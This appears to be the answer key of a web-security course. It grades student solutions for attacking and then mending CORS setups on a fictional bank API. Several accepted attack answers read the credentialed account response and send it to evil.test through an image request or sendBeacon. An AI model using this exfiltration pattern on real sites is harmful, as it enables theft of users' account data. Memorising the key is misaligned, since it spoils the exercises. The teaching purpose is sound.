import type { LessonAnswers } from '@/lib/lessons/answer.ts'
import { MENDED, OPEN, READ } from './no-origin.ts'
import { API, ATTACK, ESCAPES, EVERY_SUBDOMAIN, HELP, REPEATS, TWO_PAGES } from './trusted-page.ts'

const FRAME = /frame\.srcdoc = [\s\S]*<\/script>`;/
const CLASSIC = `frame.srcdoc = \`<script>
  fetch("https://api.bank.example/account", { credentials: "include" })
    .then((response) => response.text())
    .then((text) => console.log(text));
</script>\`;`
const BY_HAND = `app.use((req, res, next) => {
  const origin = req.get("origin")
  res.vary("Origin")
  if (origin === "https://bank.example" || origin === "null") {
    res.set("Access-Control-Allow-Origin", origin)
    res.set("Access-Control-Allow-Headers", "Authorization")
  }
  if (origin === "https://bank.example") res.set("Access-Control-Allow-Credentials", "true")
  if (req.method === "OPTIONS") return res.sendStatus(204)
  next()
})`
const MODULE = '<script type="module">'

export const answers: LessonAnswers = {
  'attack-without-an-origin': {
    right: [
      { says: 'the page itself in a sandboxed frame', opaque: true, code: READ },
      { says: 'a classic script with then', code: [[FRAME, CLASSIC]] },
      {
        says: 'a frame with a data: URL, which has no origin either',
        code: [
          ['frame.sandbox = "allow-scripts";\n', ''],
          ['frame.srcdoc = `', 'const html = `'],
          ['document.body', 'frame.src = "data:text/html," + encodeURIComponent(html);\ndocument.body'],
        ],
      },
    ],
    wrong: [
      { says: 'the call as it was', kind: 'careless', code: READ, fails: 'Your page reads' },
      {
        says: 'a sandbox in which nothing runs',
        kind: 'careless',
        code: [['frame.sandbox = "allow-scripts"', 'frame.sandbox = ""']],
        fails: 'Your page reads',
      },
      {
        says: 'a classic script that waits',
        kind: 'careless',
        code: [[MODULE, '<script>']],
        fails: 'Your page reads',
      },
      {
        says: 'a sandbox that keeps the origin',
        kind: 'near',
        code: [['"allow-scripts"', '"allow-scripts allow-same-origin"']],
        fails: 'Your page reads',
      },
      { says: 'no cookie', kind: 'near', code: [['"include"', '"omit"']], fails: 'Your page reads' },
      {
        says: 'the words in the script',
        kind: 'clever',
        code: 'console.log("Sara has 1204 euros.");\n',
        fails: 'Your page reads',
      },
    ],
  },
  'mend-without-an-origin': {
    right: [
      { says: 'the headers by hand', server: [[MENDED, BY_HAND]] },
      {
        says: 'two middlewares, chosen by the origin',
        server: [
          [
            MENDED,
            `const forPage = cors({ origin: "https://bank.example", credentials: true })
const forPhone = cors({ origin: "null" })
app.use((req, res, next) => (req.get("origin") === "null" ? forPhone : forPage)(req, res, next))`,
          ],
        ],
      },
      {
        says: 'credentials for the one origin only',
        server: [
          [
            MENDED,
            `app.use(cors((req, done) => done(null, {
  origin: ["https://bank.example", "null"],
  credentials: req.get("origin") === "https://bank.example",
})))`,
          ],
        ],
      },
    ],
    wrong: [
      {
        says: 'null taken away',
        kind: 'careless',
        server: [[MENDED, 'app.use(cors({ origin: "https://bank.example", credentials: true }))']],
        fails: 'The app, which is a file',
      },
      {
        says: 'no credentials for anybody',
        kind: 'careless',
        server: [[MENDED, 'app.use(cors({ origin: ["https://bank.example", "null"] }))']],
        fails: 'https://bank.example reads the account',
      },
      {
        says: 'a star',
        kind: 'clever',
        server: [[MENDED, 'app.use(cors())']],
        fails: 'https://bank.example reads the account',
      },
      {
        says: 'no credentials for null, and every other origin with them',
        kind: 'near',
        server: [['origin: "https://bank.example", credentials', 'origin: true, credentials']],
        fails: 'https://evil.test itself',
      },
      {
        says: 'the cookie accepted from everybody but evil.test',
        kind: 'near',
        server: [
          [MENDED, OPEN],
          ['const page =', 'const page = req.get("origin") !== "https://evil.test" &&'],
        ],
        fails: 'The attack from evil.test',
      },
    ],
  },
  'attack-a-trusted-page': {
    right: [
      {
        says: 'the page itself goes there',
        code: [
          [/const frame[\s\S]*frame\.src = /, 'location.href = '],
          ['document.body.append(frame);\n', ''],
        ],
      },
      {
        says: 'an image carries it away',
        code: [
          [
            /await fetch\("https:\/\/evil[\s\S]*?\}\);/,
            'new Image().src = "https://evil.test/take?" + encodeURIComponent(text);',
          ],
        ],
      },
      {
        says: 'a classic script, and a beacon',
        code: ATTACK.replace(
          /<script type[\s\S]*<\/script>/,
          `<script>
  fetch("https://api.bank.example/account", { credentials: "include" })
    .then((response) => response.text())
    .then((text) => navigator.sendBeacon("https://evil.test/take", text));
</script>`,
        ),
      },
    ],
    wrong: [
      {
        says: 'the script as it is in the address',
        kind: 'careless',
        code: [['encodeURIComponent(script)', 'script']],
        fails: 'A script on a trusted page',
      },
      {
        says: 'read, and not sent',
        kind: 'near',
        code: [[/await fetch\("https:\/\/evil[\s\S]*?\}\);/, 'console.log(text);']],
        fails: 'A script on a trusted page',
      },
      {
        says: 'in a sandbox',
        kind: 'near',
        code: [['document.body', 'frame.sandbox = "allow-scripts";\ndocument.body']],
        fails: 'A script on a trusted page',
      },
      {
        says: 'without the cookie',
        kind: 'careless',
        code: [['    credentials: "include",\n', '']],
        fails: 'A script on a trusted page',
      },
      {
        says: 'the words in the script',
        kind: 'clever',
        code: [[/const response[\s\S]*?response\.text\(\);/, 'const text = "Sara has 1204 euros.";']],
        fails: 'A script on a trusted page',
      },
      {
        says: 'a page on a subdomain',
        kind: 'clever',
        page: 'https://my.bank.example/',
        code: READ,
        fails: 'A script on',
      },
    ],
  },
  'mend-a-trusted-page': {
    right: [
      {
        says: 'a policy for the help page, and a pattern for two names',
        servers: {
          [API]: [[TWO_PAGES, '/^https:\\/\\/(www|pay)\\.bank\\.example$/']],
          [HELP]: [[ESCAPES, `res.set("Content-Security-Policy", "default-src 'self'")\n  ${REPEATS}`]],
        },
      },
      {
        says: 'plain text, and a function with a set',
        servers: {
          [API]: [
            ['const app = express()', `const app = express()\nconst ours = new Set(${TWO_PAGES})`],
            [`origin: ${TWO_PAGES}`, 'origin: (origin, done) => done(null, ours.has(origin))'],
          ],
          [HELP]: [[ESCAPES, 'res.type("text").send("You searched for " + req.query.q)']],
        },
      },
    ],
    wrong: [
      {
        says: 'only the help page mended',
        kind: 'near',
        servers: { [API]: [[TWO_PAGES, EVERY_SUBDOMAIN]] },
        fails: 'https://help.bank.example itself',
      },
      {
        says: 'only the list',
        kind: 'near',
        servers: { [HELP]: [[ESCAPES, REPEATS]] },
        fails: 'It does not run it',
      },
      {
        says: 'the word script taken out, once',
        kind: 'near',
        servers: {
          [HELP]: [[ESCAPES, 'res.send("<p>You searched for " + req.query.q.replace("<style>", "") + ".</p>")']],
        },
        fails: 'It does not run it',
      },
      {
        says: 'only one page',
        kind: 'careless',
        servers: { [API]: [[TWO_PAGES, '"https://www.bank.example"']] },
        fails: 'https://pay.bank.example reads',
      },
      {
        says: 'a help page that shows nothing',
        kind: 'clever',
        servers: { [HELP]: [[ESCAPES, 'res.send("<h1>Help</h1>")']] },
        fails: 'https://help.bank.example shows',
      },
    ],
  },
}
